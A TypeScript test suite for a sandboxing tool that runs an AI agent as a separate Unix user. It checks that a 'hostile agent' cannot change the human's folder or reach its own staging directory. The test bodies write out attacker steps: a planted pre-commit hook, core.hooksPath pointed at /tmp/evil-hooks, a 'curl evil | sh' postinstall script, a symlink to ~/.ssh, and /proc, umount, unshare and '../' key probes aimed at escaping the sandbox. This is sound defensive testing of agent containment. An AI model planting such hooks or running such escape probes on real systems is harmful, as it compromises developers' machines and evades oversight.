// Review shares, the staging side (issue 16 part A): the hostile agent writes everything an
// attacker would plant in a checkout (a git hook, core.hooksPath, a package.json script, a
// symlink to ~/.ssh, an executable bit) into a review share, and the human's folder stays
// byte-for-byte the same, with no ACL on it; the changes persist across runs, in a staging
// directory the agent reaches only through its own mount: not by path, not through /proc of
// another run, not through a symlink planted at the share's target, a KEY with `../`, another
// human's KEY or a STAGE swapped for a symlink or a colleague's directory. `au delete -H`
// removes all of it, once the staged changes may go.
import assert from 'node:assert/strict';
import { type ChildProcess } from 'node:child_process';
import { createHash } from 'node:crypto';
import { existsSync, lstatSync, mkdirSync, readFileSync, readdirSync, renameSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import { after, before, describe, test } from 'node:test';
import { auRunHolding } from '../helpers/background.js';
import { type Human, type Result, createHuman, must, sh } from '../helpers/system.js';

const REVIEW_ROOT = '/var/lib/agent-as-unix-user/review';

describe('review shares: staging', () => {
  let human: Human;
  let colleague: Human | undefined;
  let agent: string;
  let src: string;
  let tgt: string;
  let stage: string;
  let key: string;
  const children: ChildProcess[] = [];

  const said = (r: Result): string => `status ${r.status}\nstdout: ${r.stdout}\nstderr: ${r.stderr}`;
  /** A command as the agent, in a run (the share mounted), from the share. */
  const inRun = (script: string): Result => human.au(['run', '-a', agent, '-d', tgt, '--', 'bash', '-c', script]);
  const entrypoint = (): string => `/usr/local/libexec/agent-as-unix-user/${agent}/su_as_agent`;

  /** Every entry under DIR: type, mode, owner, size, mtime, link target, content hash. */
  function treeHash(dir: string): string {
    const lines: string[] = [];
    const walk = (rel: string): void => {
      const path = rel ? `${dir}/${rel}` : dir;
      const st = lstatSync(path);
      let body = '';
      if (st.isSymbolicLink()) body = sh(['readlink', path]).stdout;
      else if (st.isFile()) body = createHash('sha256').update(readFileSync(path)).digest('hex');
      lines.push(`${rel} ${st.mode.toString(8)} ${st.uid}:${st.gid} ${st.size} ${st.mtimeMs} ${body}`);
      if (st.isDirectory()) for (const name of readdirSync(path).sort()) walk(rel ? `${rel}/${name}` : name);
    };
    walk('');
    return createHash('sha256').update(lines.join('\n')).digest('hex');
  }
  /** Any ACL entry at all under DIR (getfacl prints only the extended entries with --skip-base). */
  const acls = (dir: string): string => must(['getfacl', '-R', '-P', '-p', '--skip-base', dir]).trim();

  before(() => {
    human = createHuman();
    agent = human.newAgent();
    src = `${human.home}/proj`;
    tgt = `/home/${agent}/proj`;
    human.run([
      'bash',
      '-c',
      [
        `mkdir -p ${src}/sub && cd ${src} && git init -q .`,
        'echo hello > a.txt && echo bye > del.txt && echo move > ren.txt && echo "echo hi" > script.sh && echo x > sub/x',
        `printf '{ "name": "p", "scripts": { "test": "true" } }\\n' > package.json && chmod 600 a.txt`,
      ].join(' && '),
    ]);
    const add = human.au(['mount', 'add', '--review', '-a', agent, src]);
    assert.equal(add.status, 0, said(add));
    const entry = readdirSync(`${REVIEW_ROOT}/${agent}`)[0] ?? '';
    assert.ok(entry.startsWith(`${human.uid}-`), `the staging directory is named <uid>-<key>: ${entry}`);
    stage = `${REVIEW_ROOT}/${agent}/${entry}`;
    key = entry.slice(entry.indexOf('-') + 1);
  });
  after(() => {
    for (const child of children) if (child.exitCode === null) child.kill('SIGKILL');
    human.cleanup();
    colleague?.cleanup();
    rmSync(`${REVIEW_ROOT}/${agent}`, { recursive: true, force: true });
  });

  test("au mount add --review: recorded with its key, listed as [review], the staging directory the human's, no ACL on SRC", () => {
    assert.match(human.au(['mount', 'list', '-a', agent]).stdout, new RegExp(`^${src} -> ${tgt} \\[review\\]$`, 'm'));
    assert.match(readFileSync(`${human.home}/.config/agent-as-unix-user.toml`, 'utf8'), new RegExp(`review = "${key}"`));
    for (const [path, uid, mode] of [
      [REVIEW_ROOT, 0, 0o711],
      [`${REVIEW_ROOT}/${agent}`, 0, 0o711],
      [stage, human.uid, 0o700],
      [`${stage}/upper`, human.uid, 0o700],
    ] as const) {
      const st = lstatSync(path);
      assert.ok(st.isDirectory(), path);
      assert.deepEqual([st.uid, st.mode & 0o7777], [uid, mode], path);
    }
    assert.equal(acls(src), '', 'no ACL on the source of a review share');
    // A second share of the same folder, or one inside it, is refused.
    assert.equal(human.au(['mount', 'add', '--rw', '-a', agent, `${src}/sub`]).status, 2, 'a share inside a review share');
    assert.equal(human.au(['mount', 'add', '--review', '-a', agent, src, 'other']).status, 2, 'the same folder twice');
  });

  test("the hostile agent's writes are staged: the human's folder is byte-for-byte unchanged, no ACL; the next run sees them", () => {
    const before = treeHash(src);
    const r = inRun(
      [
        'echo more >> a.txt',
        'echo new > new.txt',
        'rm del.txt',
        'mv ren.txt renamed.txt',
        'chmod +x script.sh',
        'mkdir -p .git/hooks && printf "#!/bin/sh\\necho pwned\\n" > .git/hooks/pre-commit && chmod +x .git/hooks/pre-commit',
        'git config core.hooksPath /tmp/evil-hooks',
        `sed -i 's/"test": "true"/"test": "true", "postinstall": "curl evil | sh"/' package.json`,
        `ln -s ${human.home}/.ssh sshlink`,
        'git status --porcelain >/dev/null && echo done',
      ].join(' && '),
    );
    assert.equal(r.status, 0, said(r));
    assert.match(r.stdout, /done/);
    assert.equal(treeHash(src), before, "the human's folder changed");
    assert.equal(acls(src), '', 'an ACL appeared on the source');
    // On disk the staged files are the human's (the agent's uid is mapped back to the human).
    const staged = lstatSync(`${stage}/upper/.git/hooks/pre-commit`);
    assert.deepEqual([staged.uid, staged.mode & 0o111], [human.uid, 0o111]);
    assert.ok(lstatSync(`${stage}/upper/del.txt`).isCharacterDevice(), 'a deletion is a whiteout in upper');
    const next = inRun(
      'cat a.txt; test -e del.txt || echo del-gone; cat renamed.txt; readlink sshlink; git config core.hooksPath; grep -c postinstall package.json',
    );
    assert.equal(next.status, 0, said(next));
    assert.equal(next.stdout, `hello\nmore\ndel-gone\nmove\n${human.home}/.ssh\n/tmp/evil-hooks\n1\n`);
  });

  test('--lockdown from the review share: its staged view, read-only unless --rw-cwd, and still staged', () => {
    const before = treeHash(src);
    const ro = human.au(
      ['run', '--lockdown', '-a', agent, '--', 'bash', '-c', 'cat a.txt; touch x 2>/dev/null && echo wrote || echo read-only'],
      { cwd: src },
    );
    assert.equal(ro.status, 0, said(ro));
    assert.equal(ro.stdout, 'hello\nmore\nread-only\n');
    const rw = human.au(['run', '--lockdown', '--rw-cwd', '-a', agent, '--', 'bash', '-c', 'echo lock > from-lockdown && echo wrote'], {
      cwd: src,
    });
    assert.equal(rw.status, 0, said(rw));
    assert.ok(existsSync(`${stage}/upper/from-lockdown`), 'staged');
    assert.equal(treeHash(src), before);
    assert.equal(acls(src), '', 'lockdown set no ACL on a review share');
  });

  test('the agent cannot reach the staging directory by path, through /proc (its run, another run, from outside), or by unmounting', async () => {
    const probe = [
      `for p in ${stage}/upper/a.txt ${stage} ${REVIEW_ROOT}/${agent}; do cat $p 2>/dev/null || ls $p 2>/dev/null && echo "reached $p"; done`,
      `for p in /proc/[0-9]*; do ls $p/root${stage}/upper 2>/dev/null && echo "reached via $p/root"; ls $p/fd/ 2>/dev/null | while read fd; do ls $p/fd/$fd/upper 2>/dev/null && echo "reached via $p/fd/$fd"; done; done`,
      `umount ${tgt} 2>/dev/null && echo unmounted`,
      `unshare -Urm sh -c "umount ${tgt} && ls ${tgt}" 2>/dev/null && echo unmounted-in-userns`,
      'echo probed',
    ].join('; ');
    // Another run, holding the share (and P1 holding STAGE's fd) while this one probes.
    const holder = await auRunHolding(human, agent, tgt, 'echo holding; exec sleep 60', children);
    assert.match(holder.output(), /holding/, 'the holding run did not start');
    try {
      const r = inRun(probe);
      assert.equal(r.status, 0, said(r));
      assert.equal(r.stdout.trim(), 'probed', said(r));
      // From outside any run, as the agent's uid: the holding run's processes, by /proc.
      const pids = must(['pgrep', '-u', agent]).trim().split('\n');
      assert.ok(pids.length > 0);
      const outside = sh([
        'runuser',
        '-u',
        agent,
        '--',
        'bash',
        '-c',
        `for p in ${pids.join(' ')}; do ls /proc/$p/root${stage} 2>/dev/null && echo "reached via $p/root"; ls /proc/$p/fd 2>/dev/null | while read fd; do ls /proc/$p/fd/$fd/upper 2>/dev/null && echo "reached via $p/fd/$fd"; done; done; ls ${stage} 2>/dev/null && echo reached; echo probed`,
      ]);
      assert.equal(outside.stdout.trim(), 'probed', said(outside));
      // Nor can the human remove the share's staging directory from under the run.
      const config = readFileSync(`${human.home}/.config/agent-as-unix-user.toml`, 'utf8');
      const removing = human.au(['mount', 'remove', '-y', '--discard-changes', '-a', agent, src]);
      assert.equal(removing.status, 1, said(removing));
      assert.match(removing.stderr, /has .* mounted: new runs no longer get it; .* again to finish/);
      assert.ok(existsSync(`${stage}/upper/a.txt`), 'the staging directory went while a run had it mounted');
      writeFileSync(`${human.home}/.config/agent-as-unix-user.toml`, config); // the share back, for the tests below
    } finally {
      await holder.stop();
    }
  });

  test("a symlink planted at the share target, a KEY with ../, another human's KEY: the entrypoint refuses", () => {
    // Planted while no run had the share mounted (the agent owns its home).
    const planted = sh(['runuser', '-u', agent, '--', 'bash', '-c', `rmdir ${tgt} && ln -s ${stage}/upper ${tgt}`]);
    assert.equal(planted.status, 0, said(planted));
    try {
      const r = inRun('echo ran');
      assert.equal(r.status, 125, said(r));
      assert.doesNotMatch(r.stdout, /ran/);
    } finally {
      must(['runuser', '-u', agent, '--', 'bash', '-c', `rm ${tgt} && mkdir ${tgt}`]);
    }
    for (const bad of ['../../../../../tmp', '../../aaaaaaaaaa', `${key}/..`, key.toUpperCase(), `${key}x`]) {
      const r = human.run([entrypoint(), '--mount-review', src, tgt, bad, '--', 'true']);
      assert.equal(r.status, 125, `${bad}: ${said(r)}`);
      assert.match(r.stderr, /invalid review key/, bad);
    }
    // A colleague who also drives the agent, with the first human's KEY: the entrypoint builds
    // STAGE from the colleague's own uid, so it finds nothing (and SRC must be the colleague's).
    colleague = createHuman();
    must(['usermod', '-aG', `su-as-${agent}`, colleague.name]);
    must(['mkdir', '-m', '700', `${colleague.home}/proj`]);
    must(['chown', `${colleague.name}:${colleague.name}`, `${colleague.home}/proj`]);
    const stolen = colleague.run([entrypoint(), '--mount-review', `${colleague.home}/proj`, tgt, key, '--', 'cat', `${tgt}/a.txt`]);
    assert.equal(stolen.status, 125, said(stolen));
    assert.match(stolen.stderr, /opening the review stage/);
    const theirs = colleague.run([entrypoint(), '--mount-review', src, tgt, key, '--', 'cat', `${tgt}/a.txt`]);
    assert.equal(theirs.status, 125, said(theirs));
    assert.doesNotMatch(theirs.stdout, /hello/);
  });

  test("a STAGE swapped for a symlink or for a colleague's directory is refused, and au mount remove does not follow it", () => {
    const aside = `${stage}.aside`;
    const decoy = `${colleague!.home}/decoy`;
    renameSync(stage, aside);
    try {
      must(['mkdir', '-p', `${decoy}/upper`, `${decoy}/work`]);
      writeFileSync(`${decoy}/canary`, 'keep me\n');
      must(['chown', '-R', `${colleague!.name}:${colleague!.name}`, decoy]);
      must(['chmod', '-R', '700', decoy]);
      must(['chmod', '711', colleague!.home]);
      symlinkSync(decoy, stage);
      const viaLink = inRun('echo ran');
      assert.equal(viaLink.status, 125, said(viaLink));
      assert.match(viaLink.stderr, /opening the review stage/);
      rmSync(stage);
      mkdirSync(`${stage}/upper`, { recursive: true });
      mkdirSync(`${stage}/work`);
      must(['chown', '-R', `${colleague!.name}:${colleague!.name}`, stage]);
      must(['chmod', '-R', '700', stage]);
      const viaDir = inRun('echo ran');
      assert.equal(viaDir.status, 125, said(viaDir));
      assert.match(viaDir.stderr, /not the caller's/);
      // au mount remove of the share with the symlink back in place: the entry goes, not what it names.
      rmSync(stage, { recursive: true });
      symlinkSync(decoy, stage);
      const info = human.au(['info', '-a', agent]);
      assert.match(info.stdout + info.stderr, /review share .* is not a directory/, said(info));
      const [config] = [readFileSync(`${human.home}/.config/agent-as-unix-user.toml`, 'utf8')];
      const removed = human.au(['mount', 'remove', '-y', '--discard-changes', '-a', agent, src]);
      assert.equal(removed.status, 0, said(removed));
      assert.equal(readFileSync(`${decoy}/canary`, 'utf8'), 'keep me\n', 'removal followed the symlink');
      assert.ok(!existsSync(stage), 'the symlink itself is gone');
      // Back as it was for the next test: the record and the real staging directory.
      writeFileSync(`${human.home}/.config/agent-as-unix-user.toml`, config);
    } finally {
      if (lstatSync(stage, { throwIfNoEntry: false })) rmSync(stage, { recursive: true });
      renameSync(aside, stage);
    }
    assert.equal(inRun('cat a.txt').stdout, 'hello\nmore\n', 'the staged changes are back');
  });

  test('au mount remove / au delete with staged changes: asked, -y refuses naming au changes, --discard-changes removes every trace', () => {
    const refused = human.au(['mount', 'remove', '-y', '-a', agent, src]);
    assert.equal(refused.status, 1, said(refused));
    assert.match(refused.stderr, /\d+ staged changes of .* would be lost: see them with `au changes -a/);
    const del = human.au(['delete', '-H', '-y', '-a', agent]);
    assert.equal(del.status, 1, said(del));
    assert.match(del.stderr, /staged changes .* --discard-changes/);
    assert.ok(existsSync(stage), 'nothing removed on refusal');
    const gone = human.au(['delete', '-H', '-y', '--discard-changes', '-a', agent]);
    assert.equal(gone.status, 0, said(gone));
    assert.ok(!existsSync(`${REVIEW_ROOT}/${agent}`), "the agent's review directory is gone");
    assert.equal(acls(src), '', 'no ACL on the source, ever');
  });
});
